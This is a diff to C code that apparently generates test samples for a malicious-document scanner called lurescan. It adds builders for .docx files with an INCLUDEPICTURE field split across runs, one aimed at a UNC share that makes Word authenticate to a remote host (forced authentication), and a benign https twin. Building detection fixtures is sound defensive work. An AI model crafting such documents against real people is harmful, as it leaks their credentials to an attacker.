@@ -468,6 +468,42 @@ GBytes *make_dde_docx(void)
 	return b;
 }
 
+/* An INCLUDEPICTURE field to a share, split over runs: opening the
+ * document makes Word authenticate to the host (T1187). The benign twin
+ * includes a picture over https. */
+static GBytes *include_picture_docx(const char *title, const char *target_escaped)
+{
+	char *tail = g_markup_printf_escaped("PICTURE \"%s\" \\d ", target_escaped);
+	char *para = w_para("lurescan synthetic sample: an INCLUDEPICTURE field split over runs.");
+	char *body = g_strdup_printf("%s<w:p>"
+		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
+		"<w:r><w:instrText xml:space=\"preserve\"> INCLUDE</w:instrText></w:r>"
+		"<w:r><w:instrText xml:space=\"preserve\">%s</w:instrText></w:r>"
+		"<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
+		"<w:r><w:t>" LABEL "</w:t></w:r>"
+		"<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
+		"</w:p>", para, tail);
+	GBytes *b = pkg_finish(docx_new(title, body));
+
+	g_free(tail);
+	g_free(para);
+	g_free(body);
+	return b;
+}
+
+GBytes *make_include_unc_docx(void)
+{
+	/* Word doubles the backslashes of a path inside a field code. */
+	return include_picture_docx(LABEL " INCLUDEPICTURE from a share",
+				    "\\\\\\\\192.0.2.10\\\\share1\\\\logo.png");
+}
+
+GBytes *make_include_https_docx(void)
+{
+	return include_picture_docx("lurescan benign sample: INCLUDEPICTURE over https",
+				    "https://www.example/logo.png");
+}
+
 /* MS-DOC 2.8.25: field begin, separator, end characters in the text. */
 #define DOC_FIELD_BEGIN "\x13"
 #define DOC_FIELD_SEPARATE "\x14"
